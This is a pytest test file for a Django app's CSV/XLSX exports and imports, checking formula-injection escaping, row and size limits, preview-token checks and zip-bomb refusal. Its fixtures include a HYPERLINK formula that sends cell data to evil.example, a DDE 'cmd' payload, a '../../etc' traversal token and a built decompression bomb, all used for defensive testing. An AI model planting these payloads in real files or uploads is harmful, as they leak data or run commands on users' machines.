"""Every export with hostile names; imports bounded, tokens checked, previews expiring."""

import csv
import io
import os
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from indicators.models import Observation
from indicators.services import imports
from meetings.models import Pack, Recommendation
from tests.factories import CommitteeFactory, IndicatorFactory, ObservationFactory, PackFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture
def hostile_panel():
    pack = PackFactory(status=Pack.Status.PUBLISHED)
    panel = pack.meeting.committee
    indicator = IndicatorFactory(committee=panel, name=EVIL, code="@SUM(1)", section="+1+1")
    ObservationFactory(indicator=indicator, pack=pack, value=-12.5)
    Recommendation.objects.create(
        committee=panel, title="-2+3", text="=cmd|' /C calc'!A0", made_on="2022-01-01"
    )
    return panel


def cells_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:], None
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    return [[c.value for c in row] for row in rows], [c.data_type for row in rows for c in row]


@pytest.mark.parametrize(
    "name, args, query",
    [
        ("indicators:export", [], "?_export=csv"),
        ("indicators:export", [], "?_export=xlsx"),
        ("indicators:template", ["csv"], ""),
        ("indicators:template", ["xlsx"], ""),
        ("meetings:monitoring_csv", [], ""),
    ],
)
def test_no_export_carries_a_live_formula(client, hostile_panel, name, args, query):
    response = client.get(reverse(name, args=[hostile_panel.slug, *args]) + query)
    assert response.status_code == 200
    rows, types = cells_of(response)
    texts = [str(v) for row in rows for v in row if v not in (None, "")]
    assert texts, "the hostile rows are exported"
    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [t for t in texts if t.startswith("-") and not t.lstrip("-")[:1].isdigit()]
    if types is not None:
        assert "f" not in types
    if name != "meetings:monitoring_csv":
        assert "-12.5" in texts  # the negative figure stays a number
    else:
        assert "'-2+3" in texts  # the recommendation's title, quoted


def csv_file(rows, name="values.csv"):
    text = io.StringIO()
    csv.writer(text).writerows([imports.COLUMNS, *rows])
    return SimpleUploadedFile(name, text.getvalue().encode(), content_type="text/csv")


def test_a_file_over_the_row_limit_is_refused_with_a_sentence(client, users, settings):
    settings.IMPORT_MAX_ROWS = 1000
    panel = CommitteeFactory()
    client.force_login(users["dso"])
    rows = [["A", "", "count", "", "2022-01", "1"]] * 1001
    response = client.post(
        reverse("indicators:import", args=[panel.slug]), {"file": csv_file(rows)}
    )
    assert response.status_code == 200
    assert "more than 1,000 rows" in response.content.decode()
    assert not Observation.objects.exists()


def test_a_million_row_csv_is_refused_fast_by_its_size(client, users):
    panel = CommitteeFactory()
    client.force_login(users["dso"])
    line = b"A,,count,,2022-01,1\n"
    big = SimpleUploadedFile(
        "big.csv", b"indicator,code,unit,section,period,value\n" + line * 1_000_000
    )
    response = client.post(reverse("indicators:import", args=[panel.slug]), {"file": big})
    assert (
        response.status_code == 200 and "an import can be at most 5 MB" in response.content.decode()
    )


def test_a_100k_row_xlsx_is_refused_without_reading_it_all(monkeypatch):
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(imports.COLUMNS)
    for _ in range(100_000):
        sheet.append(["A", "", "count", "", "2022-01", 1])
    buffer = io.BytesIO()
    book.save(buffer)
    read = []
    streamed = imports.xlsx_rows

    def counting(content):
        for row in streamed(content):
            read.append(1)
            yield row

    monkeypatch.setattr(imports, "xlsx_rows", counting)
    with pytest.raises(imports.UnreadableFile, match="more than 20,000 rows"):
        imports.read_table(buffer.getvalue(), "values.xlsx")
    assert len(read) == 20_002  # the header, the limit, and the one row too many: no more


def test_a_bad_token_is_a_form_error_and_a_preview_belongs_to_its_panel(client, users):
    panel, other = CommitteeFactory(), CommitteeFactory()
    client.force_login(users["dso"])
    bad = client.post(reverse("indicators:import", args=[panel.slug]), {"token": "../../etc"})
    assert (
        bad.status_code == 200 and "expired or was made for another panel" in bad.content.decode()
    )
    preview = client.post(
        reverse("indicators:import", args=[panel.slug]),
        {"file": csv_file([["Visits", "", "count", "", "2022-01", "5"]])},
    )
    token = preview.context["token"]
    elsewhere = client.post(reverse("indicators:import", args=[other.slug]), {"token": token})
    assert "another panel" in elsewhere.content.decode()
    assert not Observation.objects.exists()
    done = client.post(reverse("indicators:import", args=[panel.slug]), {"token": token})
    assert done.status_code == 302 and Observation.objects.count() == 1


def test_unconfirmed_previews_expire(settings):
    panel = CommitteeFactory()
    content = csv_file([["Visits", "", "count", "", "2022-01", "5"]]).read()
    _, token = imports.preview_import(panel, content, "values.csv")
    kept = next(imports.kept_uploads().glob(f"*{token}*"))
    old = time.time() - settings.__dict__.get("IMPORT_PREVIEW_SECONDS", 3600) - 10
    os.utime(kept, (old, old))
    with pytest.raises(imports.PreviewGone):
        imports.confirm_import(panel, token)
    _, fresh = imports.preview_import(panel, content, "values.csv")
    os.utime(next(imports.kept_uploads().glob(f"*{fresh}*")), (old, old))
    assert imports.remove_expired_previews() == 1


def test_the_import_knows_the_pdf_readers_no_value_words():
    for word in ("TBA", "nil", "n.a.", "not available", "TBC", "-"):
        assert imports.parse_number(word) is None, word


def test_a_spreadsheet_that_unpacks_to_far_more_than_it_weighs_is_refused():
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (250 * 2**20))  # 250 MB of nothing
    assert len(buffer.getvalue()) < 1024 * 1024
    with pytest.raises(imports.UnreadableFile, match="unpacks to 250 MB"):
        imports.read_table(buffer.getvalue(), "values.xlsx")
